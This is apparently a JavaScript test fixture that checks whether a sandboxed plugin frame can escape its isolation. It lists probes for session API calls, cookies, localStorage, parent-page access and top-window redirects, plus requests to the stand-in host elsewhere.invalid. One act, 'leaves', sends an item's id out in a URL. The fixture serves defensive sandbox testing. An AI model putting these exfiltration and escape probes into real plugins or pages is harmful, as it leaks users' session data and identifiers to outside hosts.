const never = () => new Promise(() => undefined)

/** Ways in which a part could leak data out of its frame, or read data that it may not access. */
const ways = {
  fetch: () => fetch('/api/session'),
  elsewhere: () => fetch('http://elsewhere.invalid/'),
  request: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.open('GET', '/api/session')
      request.onload = resolve
      request.onerror = reject
      request.send()
    }),
  socket: () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket('ws://elsewhere.invalid/')
      socket.onopen = resolve
      socket.onerror = reject
    }),
  picture: () =>
    new Promise((resolve, reject) => {
      const picture = new Image()
      picture.onload = resolve
      picture.onerror = reject
      picture.src = '/api/avatars/AL-6'
    }),
  module: () => import('http://elsewhere.invalid/x.js'),
  worker: async () => new Worker('/web/assets/none.js'),
  frame: () =>
    new Promise((resolve, reject) => {
      const frame = document.createElement('iframe')
      frame.onload = () => (frame.contentDocument ? reject(new Error('empty')) : reject(new Error('refused')))
      frame.src = '/'
      document.body.append(frame)
    }),
  cookie: async () => document.cookie,
  storage: async () => localStorage.length,
  page: async () => parent.document.title,
  top: async () => {
    top.location.href = 'http://elsewhere.invalid/'
  },
  popup: async () => {
    if (!window.open('http://elsewhere.invalid/')) throw new Error('blocked')
  },
  eval: async () => new Function('return 1')(),
}

const isOpen = async way => {
  try {
    await Promise.race([way(), new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 2000))])
    return true
  } catch {
    return false
  }
}

const escapes = async (element, host) => {
  const open = []
  for (const [name, way] of Object.entries(ways)) if (await isOpen(way)) open.push(name)
  const api = await host.api('/api/session').then(
    () => 'api',
    () => '',
  )
  const bytes = await host.read(0, host.thing.sizeBytes)
  element.textContent = `Open: ${[...open, api].filter(Boolean).join(', ') || 'nothing'}; ${new TextDecoder().decode(bytes)}; ${origin}`
  return () => element.replaceChildren()
}

const acts = {
  throws: () => {
    throw new TypeError('a fault in the part')
  },
  says: () => Promise.reject(new Error('This spectrum has no peaks.')),
  silent: never,
  nonsense: () => 42,
  escapes,
  leaves: (element, { thing }) => {
    // With the data in the URL.
    location.href = `http://elsewhere.invalid/?${encodeURIComponent(thing.id)}`
    return () => element.replaceChildren()
  },
  loops: (element, { thing }) => {
    element.textContent = 'mounted'
    // Only in a separate frame: otherwise the page would hang too.
    setTimeout(() => {
      while (thing.name.endsWith('-frame'));
    }, 500)
    return () => undefined
  },
}

export const mount = (element, host) => acts[host.thing.name.split('.').at(-1).split('-')[0]](element, host)
